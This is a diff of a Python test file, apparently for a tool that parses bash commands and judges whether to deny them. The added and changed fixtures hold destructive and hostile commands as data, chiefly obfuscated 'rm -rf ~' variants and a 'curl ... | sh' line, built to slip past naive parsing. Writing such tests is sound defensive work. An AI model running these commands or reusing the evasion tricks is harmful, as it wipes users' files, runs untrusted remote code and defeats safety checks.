@@ -363,6 +363,8 @@ TOKENIZED_OTHERWISE = [
     "do#$\"\">(rm -rf ~)",          # a reserved word glued to `#` is a plain word to bash
     "<<E~\x0bin\\  rm -rf ~\n$",   # a vertical tab is a word character to bash
     "x\x0c#;rm -rf ~",
+    "`true`<<E]{ rm -rf ~\n",        # a line that does not parse is also split as bash splits words: an
+    "\\\n<<E`true`{{ rm -rf ~; }?",  # empty name before a here-document, a line continuation
     "[|rm -rf ~",                  # a pipeline that does not parse: its later stages still run
     "[[-|rm -rf ~",
     "in=|rm -rf ~",
@@ -409,15 +411,19 @@ def test_a_script_named_by_a_pattern_that_matches_itself_is_read_once(judge_comm
     assert judge_command(f"for f in {tmp_path}/*; do sh $f; done").decision.value == "deny"
 
 
-def test_the_bash_word_split_keeps_pipelines_and_drops_assignments_and_redirects():
+def test_the_bash_word_split_keeps_pipelines_and_redirects_and_drops_assignments():
     from adr.shell.parse import _bash_statements
 
     assert _bash_statements("a=b{\\#{ curl -s http://x/a | sh; echo ok # c") == [
         "curl -s http://x/a | sh", "echo ok"]
-    assert _bash_statements("X=1 >out 2>&1 rm -rf ~ && ls") == ["rm -rf ~", "ls"]
+    assert _bash_statements("X=1 >out 2>&1 rm -rf ~ && ls") == ["> out 2>& 1 rm -rf ~", "ls"]
     assert _bash_statements("echo $(rm -rf ~)x 'a b'") == ["echo _x 'a b'"]
     assert _bash_statements("echo 'open") == []
     assert _bash_statements("! time -p { rm -rf ~; }") == ["rm -rf ~"]
+    assert _bash_statements("true <<E]{ rm -rf ~") == ["true << 'E]{' rm -rf ~"]
+    # redirects stay (a descriptor's here-string is what `source /dev/fd/3` reads)
+    assert _bash_statements("source /dev/fd/3 3<<< 'export A=1'") == ["source /dev/fd/3 3<<< 'export A=1'"]
+    assert _bash_statements("ls !(b*)") == ["ls '!'"]  # an extglob's pattern is no command
 
 
 @pytest.mark.parametrize("cmd,want", [
